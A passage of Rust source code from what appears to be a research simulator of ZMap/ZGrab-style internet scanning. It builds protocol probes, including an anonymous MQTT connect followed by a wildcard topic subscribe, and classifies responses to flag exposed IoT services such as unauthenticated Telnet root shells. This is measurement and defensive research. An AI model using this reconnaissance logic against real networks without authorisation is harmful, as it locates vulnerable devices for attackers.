            classify_response(Protocol::Xmpp, "<mechanism>PLAIN</mechanism>"),
            Some(Misconfig::XmppNoEncryption)
        );
        // TLS-required servers offering SCRAM are fine even if PLAIN appears
        // behind mandatory STARTTLS.
        assert_eq!(
            classify_response(
                Protocol::Xmpp,
                "<starttls><required/></starttls><mechanism>PLAIN</mechanism>"
            ),
            None
        );
        assert_eq!(
            classify_response(Protocol::Xmpp, "<mechanism>SCRAM-SHA-1</mechanism>"),
            None
        );
    }

    #[test]
    fn coap_rules() {
        assert_eq!(
            classify_response(Protocol::Coap, "CoAP 2.05\n220-Admin </x>\n/x\n"),
            Some(Misconfig::CoapNoAuthAdmin)
        );
        assert_eq!(
            classify_response(Protocol::Coap, "CoAP 2.05\n220 </x>\n/x\n"),
            Some(Misconfig::CoapNoAuth)
        );
        assert_eq!(
            classify_response(Protocol::Coap, "CoAP 2.05\nx1C /sensors content\n"),
            Some(Misconfig::CoapNoAuth)
        );
        assert_eq!(
            classify_response(Protocol::Coap, "CoAP 2.05\n</a>,</b>\n/a\n/b\nrt: temp\n"),
            Some(Misconfig::CoapReflection)
        );
        assert_eq!(classify_response(Protocol::Coap, "CoAP 4.01\n"), None);
    }

    #[test]
    fn upnp_rules() {
        assert_eq!(
            classify_response(
                Protocol::Upnp,
                "HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\nSERVER: MiniUPnPd/1.4\r\n"
            ),
            Some(Misconfig::UpnpReflection)
        );
        assert_eq!(
            classify_response(
                Protocol::Upnp,
                "HTTP/1.1 200 OK\r\nST: urn:schemas-upnp-org:service:ConnectionManager:1\r\n"
            ),
            None
        );
    }

    #[test]
    fn classes_map_to_their_protocol() {
        // A classified response must yield a class of the probed protocol.
        let cases = [
            (Protocol::Telnet, "root@x:~$ "),
            (Protocol::Mqtt, "MQTT Connection Code:0"),
            (Protocol::Amqp, "Version: 2.7.1"),
            (Protocol::Xmpp, "<mechanism>ANONYMOUS</mechanism>"),
            (Protocol::Coap, "220 </x>"),
            (Protocol::Upnp, "upnp:rootdevice"),
        ];
        for (proto, text) in cases {
            let m = classify_response(proto, text).unwrap();
            assert_eq!(m.protocol(), proto);
        }
    }
}
