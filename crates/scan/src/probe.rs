//! Per-protocol application probes and response normalization.
//!
//! A probe has up to three parts, mirroring ZMap + ZGrab + the paper's
//! custom UDP scripts:
//!
//! 1. what (if anything) to send immediately after the transport opens;
//! 2. what to send after the first response (MQTT's wildcard SUBSCRIBE);
//! 3. how to normalize the collected bytes into the text the classifier and
//!    tagger operate on — the "banner" the paper stores in its database.

use ofh_net::{FastMap, Payload, PayloadBuilder};
use ofh_wire::coap::{parse_link_format, Message};
use ofh_wire::mqtt::Packet;
use ofh_wire::ssdp::msearch_all;
use ofh_wire::xmpp::client_stream_open;
use ofh_wire::Protocol;

/// The opening application payload for a TCP grab (`None` = just listen,
/// e.g. Telnet banners arrive unprompted).
pub fn tcp_opening(protocol: Protocol) -> Option<Vec<u8>> {
    match protocol {
        Protocol::Telnet => None,
        Protocol::Mqtt => Some(
            Packet::Connect {
                client_id: "zgrab".into(),
                username: None,
                password: None,
                keep_alive: 60,
                clean_session: true,
            }
            .encode(),
        ),
        Protocol::Amqp => Some(ofh_wire::amqp::PROTOCOL_HEADER.to_vec()),
        Protocol::Xmpp => Some(client_stream_open("scan-target").into_bytes()),
        _ => None,
    }
}

/// A follow-up payload after the first response arrived. Only MQTT uses
/// this: after `CONNACK 0`, subscribe to `#` so the broker lists its topics
/// ("all the topics and channels on the target host are listed", §3.1.3).
pub fn tcp_followup(protocol: Protocol, first_response: &[u8]) -> Option<Vec<u8>> {
    if protocol != Protocol::Mqtt {
        return None;
    }
    match Packet::decode(first_response) {
        Ok((
            Packet::ConnAck {
                return_code: ofh_wire::mqtt::ConnectReturnCode::Accepted,
                ..
            },
            _,
        )) => Some(
            Packet::Subscribe {
                packet_id: 1,
                topics: vec![("#".into(), 0)],
            }
            .encode(),
        ),
        _ => None,
    }
}

/// The UDP probe datagram for response-based protocols (Table 3).
pub fn udp_probe(protocol: Protocol, message_id: u16) -> Option<Vec<u8>> {
    match protocol {
        Protocol::Coap => Some(Message::well_known_core_request(message_id).encode()),
        Protocol::Upnp => Some(msearch_all().into_bytes()),
        _ => None,
    }
}

/// Pre-encoded probe payloads, built once per scanner.
///
/// Probe bytes are identical for every address a sweep touches except the
/// CoAP message id, so re-encoding them per probe is pure waste — on the
/// full preset that is millions of MQTT CONNECT and CoAP GET encodes. The
/// cache encodes each probe once:
///
/// * TCP openings and the SSDP discover are address-invariant; handing one
///   out clones a shared [`Payload`] (a refcount bump, no bytes move);
/// * the CoAP request varies only in its 16-bit message id, which
///   [`ProbeTemplates::udp_probe`] patches into a pooled copy of the
///   template at [`Message::MESSAGE_ID_RANGE`].
///
/// An oracle test asserts every cached/patched probe is byte-identical to a
/// fresh [`tcp_opening`]/[`udp_probe`] encode.
#[derive(Debug, Default)]
pub struct ProbeTemplates {
    tcp: FastMap<Protocol, Payload>,
    udp: FastMap<Protocol, Payload>,
}

impl ProbeTemplates {
    /// Encode every scanned protocol's probes up front.
    pub fn new() -> ProbeTemplates {
        let mut t = ProbeTemplates::default();
        for proto in Protocol::SCANNED {
            if let Some(bytes) = tcp_opening(proto) {
                t.tcp.insert(proto, Payload::from(bytes));
            }
            if let Some(bytes) = udp_probe(proto, 0) {
                t.udp.insert(proto, Payload::from(bytes));
            }
        }
        t
    }

    /// The cached opening payload for a TCP grab (see [`tcp_opening`]).
    pub fn tcp_opening(&self, protocol: Protocol) -> Option<Payload> {
        self.tcp.get(&protocol).cloned()
    }

    /// The UDP probe datagram for `protocol` carrying `message_id`
    /// (see [`udp_probe`]). CoAP patches the id into a pooled buffer;
    /// everything else clones the shared template.
    pub fn udp_probe(&self, protocol: Protocol, message_id: u16) -> Option<Payload> {
        let template = self.udp.get(&protocol)?;
        if protocol != Protocol::Coap {
            return Some(template.clone());
        }
        let mut buf = PayloadBuilder::new();
        buf.extend_from_slice(template);
        buf[Message::MESSAGE_ID_RANGE].copy_from_slice(&message_id.to_be_bytes());
        Some(buf.freeze())
    }
}

/// Normalize collected response bytes into banner text for classification
/// and tagging. This is the string the paper's pipeline would store in its
/// database.
pub fn normalize_response(protocol: Protocol, raw: &[u8]) -> String {
    match protocol {
        Protocol::Telnet => {
            String::from_utf8_lossy(&ofh_wire::telnet::visible_text(raw)).into_owned()
        }
        Protocol::Mqtt => {
            let mut out = String::new();
            let mut rest = raw;
            while let Ok((packet, used)) = Packet::decode(rest) {
                match packet {
                    Packet::ConnAck { return_code, .. } => {
                        out.push_str(&format!(
                            "MQTT Connection Code:{}\n",
                            return_code.code()
                        ));
                    }
                    Packet::Publish { topic, .. } => {
                        out.push_str(&format!("topic: {topic}\n"));
                    }
                    _ => {}
                }
                if used >= rest.len() {
                    break;
                }
                rest = &rest[used..];
            }
            out
        }
        Protocol::Amqp => {
            let mut out = String::new();
            if let Ok((frame, _)) = ofh_wire::amqp::Frame::decode(raw) {
                if let Ok(start) = ofh_wire::amqp::ConnectionStart::decode_method(&frame.payload) {
                    if let Some(product) = start.property("product") {
                        out.push_str(&format!("Product: {product}\n"));
                    }
                    if let Some(version) = start.property("version") {
                        out.push_str(&format!("Version: {version}\n"));
                    }
                    out.push_str(&format!("Mechanisms: {}\n", start.mechanisms));
                }
            }
            out
        }
        Protocol::Xmpp => String::from_utf8_lossy(raw).into_owned(),
        Protocol::Coap => {
            let Ok(msg) = Message::decode(raw) else {
                return String::new();
            };
            let mut out = format!("CoAP {}\n", msg.code);
            let body = String::from_utf8_lossy(&msg.payload).into_owned();
            out.push_str(&body);
            out.push('\n');
            // Normalize link-format entries into "path" + "attr: value"
            // lines so Table 11 identifiers match directly.
            let link_part = match body.find('<') {
                Some(i) => &body[i..],
                None => "",
            };
            for entry in parse_link_format(link_part) {
                out.push_str(&format!("{}\n", entry.path));
                for (k, v) in &entry.attrs {
                    out.push_str(&format!("{k}: {v}\n"));
                }
            }
            out
        }
        Protocol::Upnp => String::from_utf8_lossy(raw).into_owned(),
        _ => String::from_utf8_lossy(raw).into_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_wire::mqtt::ConnectReturnCode;

    #[test]
    fn telnet_listens_silently() {
        assert!(tcp_opening(Protocol::Telnet).is_none());
    }

    #[test]
    fn mqtt_probe_is_anonymous_connect() {
        let probe = tcp_opening(Protocol::Mqtt).unwrap();
        let (p, _) = Packet::decode(&probe).unwrap();
        assert!(matches!(
            p,
            Packet::Connect {
                username: None,
                password: None,
                ..
            }
        ));
    }

    #[test]
    fn mqtt_followup_only_after_code_zero() {
        let accepted = Packet::ConnAck {
            session_present: false,
            return_code: ConnectReturnCode::Accepted,
        }
        .encode();
        assert!(tcp_followup(Protocol::Mqtt, &accepted).is_some());
        let denied = Packet::ConnAck {
            session_present: false,
            return_code: ConnectReturnCode::NotAuthorized,
        }
        .encode();
        assert!(tcp_followup(Protocol::Mqtt, &denied).is_none());
        assert!(tcp_followup(Protocol::Telnet, &accepted).is_none());
    }

    #[test]
    fn udp_probes_match_the_papers_scripts() {
        let coap = udp_probe(Protocol::Coap, 7).unwrap();
        let msg = Message::decode(&coap).unwrap();
        assert_eq!(msg.uri_path(), ".well-known/core");
        let ssdp = String::from_utf8(udp_probe(Protocol::Upnp, 0).unwrap()).unwrap();
        assert!(ssdp.contains("ssdp:discover"));
        assert!(udp_probe(Protocol::Telnet, 0).is_none());
    }

    #[test]
    fn templates_match_fresh_encodes() {
        let t = ProbeTemplates::new();
        for proto in Protocol::SCANNED {
            assert_eq!(
                t.tcp_opening(proto).map(|p| p.to_vec()),
                tcp_opening(proto),
                "cached TCP opening diverges for {proto:?}"
            );
            // The patched CoAP id must reproduce a fresh encode for any id,
            // including the extremes and ids wider than one byte.
            for mid in [0u16, 1, 0x34, 0x1234, 0x7fff, 0xfffe, u16::MAX] {
                assert_eq!(
                    t.udp_probe(proto, mid).map(|p| p.to_vec()),
                    udp_probe(proto, mid),
                    "cached UDP probe diverges for {proto:?} mid {mid}"
                );
            }
        }
    }

    #[test]
    fn normalization_mqtt() {
        let mut raw = Packet::ConnAck {
            session_present: false,
            return_code: ConnectReturnCode::Accepted,
        }
        .encode();
        raw.extend(
            Packet::Publish {
                topic: "homeassistant/light/k".into(),
                packet_id: None,
                payload: b"on".to_vec(),
                qos: 0,
                retain: true,
            }
            .encode(),
        );
        let text = normalize_response(Protocol::Mqtt, &raw);
        assert!(text.contains("MQTT Connection Code:0"));
        assert!(text.contains("topic: homeassistant/light/k"));
    }

    #[test]
    fn normalization_coap_exposes_attrs() {
        let req = Message::well_known_core_request(1);
        let resp = Message::content_response(
            &req,
            "220 </ndm/login>,</qlink>;title=\"Qlink-ACK Resource\"",
        );
        let text = normalize_response(Protocol::Coap, &resp.encode());
        assert!(text.contains("220 "));
        assert!(text.contains("/ndm/login"));
        assert!(text.contains("title: Qlink-ACK Resource"));
    }

    #[test]
    fn normalization_never_panics_on_garbage() {
        for proto in Protocol::SCANNED {
            let _ = normalize_response(proto, &[0xFF, 0x00, 0x80, 0x13]);
            let _ = normalize_response(proto, b"");
        }
    }
}
