//! Scan-result datasets.
//!
//! A [`HostRecord`] is what one responsive (address, port) pair produced;
//! a [`ScanResults`] is the per-source dataset (our ZMap scan, the Sonar
//! index, the Shodan index) with the counting and correlation operations
//! §3.1.3 and §4.1 perform on them.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

use ofh_devices::Misconfig;
use ofh_wire::Protocol;
use serde::{Deserialize, Serialize};

use crate::classify::classify_response;
use crate::ztag;

/// One responsive host as recorded by a scan.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HostRecord {
    pub addr: Ipv4Addr,
    pub port: u16,
    pub protocol: Protocol,
    /// Normalized banner/response text (what goes into "the database").
    pub response: String,
    /// Raw response bytes as received. Honeypot fingerprinting matches
    /// signatures against these — several Table 6 signatures are IAC byte
    /// sequences that normalization strips.
    #[serde(default)]
    pub raw: Vec<u8>,
}

impl HostRecord {
    /// Apply the Table 2/3 classifier.
    pub fn misconfig(&self) -> Option<Misconfig> {
        classify_response(self.protocol, &self.response)
    }

    /// Apply the ZTag device tagger.
    pub fn device(&self) -> Option<&'static ofh_devices::DeviceProfile> {
        ztag::tag_device(self.protocol, &self.response)
    }
}

/// A scan-result dataset from one source.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ScanResults {
    /// Source label ("ZMap Scan", "Project Sonar", "Shodan").
    pub source: String,
    /// Records keyed by (address, port) for deterministic iteration.
    pub records: BTreeMap<(Ipv4Addr, u16), HostRecord>,
}

impl ScanResults {
    pub fn new(source: impl Into<String>) -> Self {
        ScanResults {
            source: source.into(),
            records: BTreeMap::new(),
        }
    }

    pub fn insert(&mut self, record: HostRecord) {
        self.records.insert((record.addr, record.port), record);
    }

    /// Fold another dataset of the same source into this one (the sharded
    /// engine unions per-shard sweeps; their key sets are disjoint because
    /// each shard probes only the addresses it owns).
    pub fn absorb(&mut self, other: ScanResults) {
        self.records.extend(other.records);
    }

    pub fn len(&self) -> usize {
        self.records.len()
    }

    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    /// Unique responsive hosts for a protocol (Table 4 cells: a host
    /// counts once even if seen on two ports, e.g. Telnet 23+2323).
    pub fn exposed_hosts(&self, protocol: Protocol) -> usize {
        self.unique_addrs(protocol).len()
    }

    /// The set of unique addresses responsive on a protocol.
    pub fn unique_addrs(&self, protocol: Protocol) -> BTreeSet<Ipv4Addr> {
        self.records
            .values()
            .filter(|r| r.protocol == protocol)
            .map(|r| r.addr)
            .collect()
    }

    /// Unique addresses classified into a given misconfiguration.
    pub fn misconfigured_addrs(&self, class: Misconfig) -> BTreeSet<Ipv4Addr> {
        self.records
            .values()
            .filter(|r| r.misconfig() == Some(class))
            .map(|r| r.addr)
            .collect()
    }

    /// All misconfigured addresses across classes.
    pub fn all_misconfigured(&self) -> BTreeSet<Ipv4Addr> {
        self.records
            .values()
            .filter(|r| r.misconfig().is_some())
            .map(|r| r.addr)
            .collect()
    }

    /// Remove every record whose address is in `filter` (the honeypot
    /// sanitization step). Returns how many records were dropped.
    pub fn remove_addrs(&mut self, filter: &BTreeSet<Ipv4Addr>) -> usize {
        let before = self.records.len();
        self.records.retain(|(addr, _), _| !filter.contains(addr));
        before - self.records.len()
    }

    /// Export as JSON lines (the paper stores scan output in a database;
    /// we persist the same rows as JSONL).
    pub fn to_jsonl(&self) -> String {
        let mut out = String::new();
        for r in self.records.values() {
            out.push_str(&serde_json::to_string(r).expect("record serializes"));
            out.push('\n');
        }
        out
    }

    /// Import from JSON lines.
    pub fn from_jsonl(source: &str, data: &str) -> Result<Self, serde_json::Error> {
        let mut results = ScanResults::new(source);
        for line in data.lines() {
            if line.trim().is_empty() {
                continue;
            }
            results.insert(serde_json::from_str(line)?);
        }
        Ok(results)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record(addr: &str, port: u16, proto: Protocol, response: &str) -> HostRecord {
        HostRecord {
            addr: addr.parse().unwrap(),
            port,
            protocol: proto,
            response: response.into(),
            raw: response.as_bytes().to_vec(),
        }
    }

    #[test]
    fn exposed_counts_unique_hosts_across_ports() {
        let mut rs = ScanResults::new("ZMap Scan");
        rs.insert(record("10.0.0.1", 23, Protocol::Telnet, "login:"));
        rs.insert(record("10.0.0.1", 2323, Protocol::Telnet, "login:"));
        rs.insert(record("10.0.0.2", 23, Protocol::Telnet, "$ "));
        assert_eq!(rs.len(), 3);
        assert_eq!(rs.exposed_hosts(Protocol::Telnet), 2);
    }

    #[test]
    fn misconfig_sets() {
        let mut rs = ScanResults::new("ZMap Scan");
        rs.insert(record("10.0.0.1", 23, Protocol::Telnet, "root@x:~$ "));
        rs.insert(record("10.0.0.2", 23, Protocol::Telnet, "login:"));
        rs.insert(record("10.0.0.3", 1883, Protocol::Mqtt, "MQTT Connection Code:0"));
        assert_eq!(rs.misconfigured_addrs(Misconfig::TelnetNoAuthRoot).len(), 1);
        assert_eq!(rs.all_misconfigured().len(), 2);
    }

    #[test]
    fn honeypot_filter_removes_records() {
        let mut rs = ScanResults::new("ZMap Scan");
        rs.insert(record("10.0.0.1", 23, Protocol::Telnet, "[root@LocalHost tmp]$\r\n$ "));
        rs.insert(record("10.0.0.2", 23, Protocol::Telnet, "$ "));
        let mut filter = BTreeSet::new();
        filter.insert("10.0.0.1".parse().unwrap());
        assert_eq!(rs.remove_addrs(&filter), 1);
        assert_eq!(rs.all_misconfigured().len(), 1);
    }

    #[test]
    fn jsonl_roundtrip() {
        let mut rs = ScanResults::new("Shodan");
        rs.insert(record("10.0.0.9", 5683, Protocol::Coap, "CoAP 2.05\n/x\n"));
        let jsonl = rs.to_jsonl();
        let back = ScanResults::from_jsonl("Shodan", &jsonl).unwrap();
        assert_eq!(back.records, rs.records);
    }
}
