//! A flat bitset over address offsets.
//!
//! UDP sweeps need to remember which addresses they probed so that a later
//! response can be attributed (response-based protocols, Table 3). The
//! target space is a dense offset range `[0, size)`, so one bit per address
//! replaces a hash map keyed by `(addr, port)` — setting a bit on the probe
//! hot path is a shift and an OR, with no hashing, no growth, and 1/128th
//! of the memory of the map entry it replaces.

/// Fixed-capacity bitset indexed by `u64` offsets.
#[derive(Debug, Clone)]
pub struct BitSet {
    words: Vec<u64>,
    bits: u64,
}

impl BitSet {
    /// All-zeros bitset with capacity for `bits` entries.
    pub fn new(bits: u64) -> BitSet {
        BitSet {
            words: vec![0u64; bits.div_ceil(64) as usize],
            bits,
        }
    }

    /// Capacity in bits.
    pub fn capacity(&self) -> u64 {
        self.bits
    }

    /// Set bit `i`. Out-of-range indices are ignored (a probe outside the
    /// configured space cannot happen, but must not panic the simulator).
    #[inline]
    pub fn set(&mut self, i: u64) {
        if i < self.bits {
            self.words[(i / 64) as usize] |= 1u64 << (i % 64);
        }
    }

    /// Whether bit `i` is set. Out-of-range indices read as unset.
    #[inline]
    pub fn get(&self, i: u64) -> bool {
        i < self.bits && self.words[(i / 64) as usize] & (1u64 << (i % 64)) != 0
    }

    /// Number of set bits.
    pub fn count(&self) -> u64 {
        self.words.iter().map(|w| w.count_ones() as u64).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn set_and_get() {
        let mut b = BitSet::new(200);
        assert!(!b.get(0));
        b.set(0);
        b.set(63);
        b.set(64);
        b.set(199);
        assert!(b.get(0) && b.get(63) && b.get(64) && b.get(199));
        assert!(!b.get(1) && !b.get(65) && !b.get(198));
        assert_eq!(b.count(), 4);
    }

    #[test]
    fn out_of_range_is_inert() {
        let mut b = BitSet::new(10);
        b.set(10);
        b.set(u64::MAX);
        assert!(!b.get(10));
        assert!(!b.get(u64::MAX));
        assert_eq!(b.count(), 0);
    }

    #[test]
    fn zero_capacity() {
        let mut b = BitSet::new(0);
        b.set(0);
        assert!(!b.get(0));
    }
}
