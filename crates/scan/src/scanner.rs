//! The scanning agent — ZMap's pacing and statelessness plus ZGrab's
//! application-layer grabs, as one event-driven state machine.
//!
//! A [`Scanner`] runs one or more **sweeps**. Each sweep iterates a
//! pseudorandom permutation of the target space (see [`crate::iterator`]),
//! paced in batches per timer tick, probing every configured port:
//!
//! * **TCP protocols** (banner-based, Table 2): SYN → on accept, optionally
//!   send the protocol's opening probe → collect response bytes for a grab
//!   window → normalize and record;
//! * **UDP protocols** (response-based, Table 3): send the probe datagram;
//!   any response is normalized and recorded.
//!
//! Sweeps honour a CIDR blocklist (ZMap default + FireHOL, §3.1.1) and an
//! optional per-address sampling rate (used by the Sonar/Shodan coverage
//! models in [`crate::datasets`]).

use std::net::Ipv4Addr;
use std::sync::Arc;

use ofh_net::Payload;
use ofh_net::{
    Agent, CidrSet, ConnToken, FastMap, NetCtx, ShardSpec, SimDuration, SimTime, SockAddr,
};
use ofh_wire::Protocol;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use crate::bitset::BitSet;
use crate::iterator::AddressPermutation;
use crate::probe;
use crate::results::{HostRecord, ScanResults};

/// What a sweep permutes over: the whole address range, or a sparse index.
///
/// A paper-scale universe spans 2^32 addresses but carries only ~10^6
/// occupied hosts. Walking the dense range would cost four billion
/// permutation steps per sweep replica *and* a 512 MB probed-bitset per UDP
/// port; the index walks only the addresses that can possibly matter —
/// occupied hosts plus a deterministic stride sample of the telescope's
/// dark space (so scan-phase background radiation still reaches the tap).
/// The permutation then runs over index *positions*, keeping ZMap's
/// subnet-scattering property over whatever the index contains.
#[derive(Debug, Clone, Default)]
pub enum TargetSpace {
    /// Probe every address in `[base, base + size)` (the dense default).
    #[default]
    Range,
    /// Probe only `base + offset` for the listed offsets (sorted, unique).
    /// Shared by reference: one index serves every sweep of every shard.
    Index(Arc<Vec<u32>>),
}

impl TargetSpace {
    /// An indexed space over sorted, deduplicated offsets.
    pub fn index(offsets: Vec<u32>) -> TargetSpace {
        debug_assert!(offsets.windows(2).all(|w| w[0] < w[1]), "index not sorted/unique");
        TargetSpace::Index(Arc::new(offsets))
    }

    /// Size of the permutation domain for a range of `size` addresses.
    pub fn domain(&self, size: u64) -> u64 {
        match self {
            TargetSpace::Range => size,
            TargetSpace::Index(ix) => ix.len() as u64,
        }
    }

    /// Address offset at permutation position `pos`, if in domain.
    #[inline]
    fn offset_at(&self, pos: u64) -> Option<u32> {
        match self {
            TargetSpace::Range => Some(pos as u32),
            TargetSpace::Index(ix) => ix.get(pos as usize).copied(),
        }
    }

    /// Permutation position of address offset `rel` (for bitset tracking).
    #[inline]
    fn position_of(&self, rel: u32) -> Option<u64> {
        match self {
            TargetSpace::Range => Some(u64::from(rel)),
            TargetSpace::Index(ix) => ix.binary_search(&rel).ok().map(|i| i as u64),
        }
    }
}

/// Configuration of one sweep.
#[derive(Debug, Clone)]
pub struct ScannerConfig {
    pub protocol: Protocol,
    /// Ports to probe per address (e.g. Telnet: [23, 2323]).
    pub ports: Vec<u16>,
    /// First address of the target space.
    pub base: Ipv4Addr,
    /// Number of addresses to cover.
    pub size: u64,
    /// When the sweep starts (Table 9 schedule).
    pub start_at: SimTime,
    /// Probes (address × port) issued per tick.
    pub batch: u32,
    /// Tick interval.
    pub tick: SimDuration,
    /// How long to collect response bytes per TCP grab.
    pub grab_window: SimDuration,
    /// Addresses never probed.
    pub blocklist: CidrSet,
    /// Probability of probing each address (1.0 = full coverage).
    pub sample_rate: f64,
    /// Permutation seed.
    pub seed: u64,
    /// Which slice of the address space this sweep probes. The sweep walks
    /// the full permutation but only issues probes for addresses the shard
    /// owns; `ShardSpec::WHOLE` (the default) probes everything.
    pub shard: ShardSpec,
    /// The permutation domain: dense range or sparse index (paper scale).
    pub targets: TargetSpace,
}

/// ZGrab-style bounded retry policy for interrupted application-layer grabs.
///
/// ZMap's SYN phase stays stateless — a lost first-attempt SYN is
/// indistinguishable from empty address space and is *never* retried (the
/// paper's ~2% scan loss). But once a host has answered and a grab is in
/// flight, an injected reset or a retry-connect failure is a known-responsive
/// host worth re-contacting: the scanner reconnects after a deterministic
/// exponential backoff (`min(base · 2^(attempt-1), cap)` plus seeded jitter),
/// up to `attempts` retries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RetryPolicy {
    /// Maximum retry connects per target after the first attempt (0 = off).
    pub attempts: u32,
    /// Backoff before the first retry, in milliseconds.
    pub base_ms: u64,
    /// Upper bound on the exponential backoff, in milliseconds.
    pub cap_ms: u64,
    /// Uniform jitter in `[0, jitter_ms]` added to each backoff, drawn from
    /// the scanner's dedicated retry RNG stream.
    pub jitter_ms: u64,
}

impl Default for RetryPolicy {
    fn default() -> Self {
        RetryPolicy {
            attempts: 2,
            base_ms: 500,
            cap_ms: 4_000,
            jitter_ms: 250,
        }
    }
}

/// Degradation accounting for one scanner: what the faults took and what the
/// retry machinery got back. `first_attempt_losses - retries_recovered` is
/// the net grab loss, non-negative by construction.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ScanResilience {
    /// First-attempt grabs interrupted by an injected reset or blackout.
    pub first_attempt_losses: u64,
    /// Retry connects actually issued.
    pub retries_issued: u64,
    /// Grabs recorded on a retry attempt — losses clawed back.
    pub retries_recovered: u64,
}

impl ScanResilience {
    /// Fold another scanner's counters into this one (cross-shard merge).
    pub fn absorb(&mut self, other: &ScanResilience) {
        self.first_attempt_losses += other.first_attempt_losses;
        self.retries_issued += other.retries_issued;
        self.retries_recovered += other.retries_recovered;
    }
}

impl ScannerConfig {
    /// A full-coverage sweep with paper-faithful ports for `protocol`.
    pub fn full(protocol: Protocol, base: Ipv4Addr, size: u64, start_at: SimTime, seed: u64) -> Self {
        let mut ports = vec![protocol.port()];
        ports.extend_from_slice(protocol.extra_ports());
        ScannerConfig {
            protocol,
            ports,
            base,
            size,
            start_at,
            batch: 2_048,
            tick: SimDuration::from_millis(100),
            grab_window: SimDuration::from_millis(1_500),
            blocklist: CidrSet::new(),
            sample_rate: 1.0,
            seed,
            shard: ShardSpec::WHOLE,
            targets: TargetSpace::Range,
        }
    }

    /// Addresses this sweep will actually consider probing — the shard's
    /// share of the target domain. O(domain) when sharded (one hash per
    /// candidate); used once per sweep to bound the schedule.
    pub fn target_count(&self) -> u64 {
        match &self.targets {
            TargetSpace::Range => self.shard.owned_in(self.base, self.size),
            TargetSpace::Index(ix) => {
                let base = u32::from(self.base);
                ix.iter()
                    .filter(|&&rel| {
                        self.shard.owns(Ipv4Addr::from(base.wrapping_add(rel)))
                    })
                    .count() as u64
            }
        }
    }
}

struct Sweep {
    cfg: ScannerConfig,
    perm: AddressPermutation,
    /// Pending ports for the current address (probed one per slot).
    pending_ports: Vec<(Ipv4Addr, u16)>,
    exhausted: bool,
    probes_sent: u64,
}

struct Grab {
    sweep: usize,
    addr: Ipv4Addr,
    port: u16,
    buf: Vec<u8>,
    followed_up: bool,
    /// 0 for the original sweep probe; n for the n-th retry connect.
    attempt: u8,
}

/// A scheduled retry connect, parked until its backoff timer fires.
struct RetryEntry {
    sweep: u32,
    addr: Ipv4Addr,
    port: u16,
    attempt: u8,
}

/// Remembers which addresses the scanner's UDP sweeps probed, so a response
/// can be attributed to its sweep (response-based protocols, Table 3).
enum UdpTracker {
    /// Every UDP port belongs to exactly one sweep (the normal case):
    /// port → (sweep, probed-offset bitset). Marking a probe is a bit set;
    /// no per-probe allocation or hashing of 1M+ map entries.
    ByPort(FastMap<u16, PortTracker>),
    /// Fallback when two sweeps share a UDP port: exact `(addr, port)`
    /// bookkeeping with latest-probe-wins attribution.
    Shared(FastMap<(Ipv4Addr, u16), usize>),
}

struct PortTracker {
    sweep: usize,
    base: u32,
    /// One bit per *domain position* — index length, not address-range
    /// size, so a sparse 2^32 sweep tracks probes in kilobytes, not 512 MB.
    probed: BitSet,
    targets: TargetSpace,
}

/// The scanning agent. Attach at the scanning host's address, run the
/// network past the expected completion time, then read [`Scanner::results`].
pub struct Scanner {
    pub results: ScanResults,
    /// Retry/backoff policy for interrupted grabs (ZGrab behaviour).
    pub retry: RetryPolicy,
    /// Degradation accounting: losses, retries, recoveries.
    pub resilience: ScanResilience,
    sweeps: Vec<Sweep>,
    /// Grabs in progress — created on `on_tcp_established`, so the table
    /// only ever holds responsive hosts, not the millions of probes into
    /// empty space.
    grabs: FastMap<ConnToken, Grab>,
    udp_track: UdpTracker,
    /// Probe payloads encoded once at construction; the per-address CoAP
    /// message id is patched into a pooled buffer (see
    /// [`probe::ProbeTemplates`]).
    templates: probe::ProbeTemplates,
    rng: StdRng,
    /// Dedicated stream for backoff jitter, so retries never perturb the
    /// sampling draw sequence (which must stay a pure function of targets).
    retry_rng: StdRng,
    /// Parked retries, keyed by the id carried in the retry timer token.
    retries: FastMap<u64, RetryEntry>,
    next_retry_id: u64,
    message_id: u16,
    active_sweeps: usize,
}

const DEADLINE_BIT: u64 = 1 << 63;
const RETRY_BIT: u64 = 1 << 62;

/// The sweep index occupies the tag's low bits; the retry attempt rides in
/// the high bits so established connections know which attempt they are.
const TAG_ATTEMPT_SHIFT: u64 = 48;

impl Scanner {
    pub fn new(source: impl Into<String>, configs: Vec<ScannerConfig>) -> Scanner {
        let seed = configs.first().map(|c| c.seed).unwrap_or(0);
        let active = configs.len();
        let sweeps: Vec<Sweep> = configs
            .into_iter()
            .map(|cfg| Sweep {
                // An empty index still builds a 1-element permutation whose
                // sole position falls outside the domain and is skipped.
                perm: AddressPermutation::new(cfg.targets.domain(cfg.size).max(1), cfg.seed),
                cfg,
                pending_ports: Vec::new(),
                exhausted: false,
                probes_sent: 0,
            })
            .collect();
        let udp_track = Self::build_udp_tracker(&sweeps);
        Scanner {
            results: ScanResults::new(source),
            retry: RetryPolicy::default(),
            resilience: ScanResilience::default(),
            sweeps,
            grabs: FastMap::default(),
            udp_track,
            templates: probe::ProbeTemplates::new(),
            rng: StdRng::seed_from_u64(ofh_net::rng::derive_seed(seed, "scanner")),
            retry_rng: StdRng::seed_from_u64(ofh_net::rng::derive_seed(seed, "scanner/retry")),
            retries: FastMap::default(),
            next_retry_id: 0,
            message_id: 1,
            active_sweeps: active,
        }
    }

    /// In-flight grabs plus parked retries — must be zero once the network
    /// has drained past the scan's end (the chaos harness asserts this).
    pub fn leaked_state(&self) -> u64 {
        (self.grabs.len() + self.retries.len()) as u64
    }

    /// Port-indexed UDP probe tracking when ports are unambiguous, exact
    /// per-address map otherwise.
    fn build_udp_tracker(sweeps: &[Sweep]) -> UdpTracker {
        let mut by_port: FastMap<u16, PortTracker> = FastMap::default();
        for (idx, sweep) in sweeps.iter().enumerate() {
            if !sweep.cfg.protocol.is_udp() {
                continue;
            }
            for &port in &sweep.cfg.ports {
                if by_port
                    .insert(
                        port,
                        PortTracker {
                            sweep: idx,
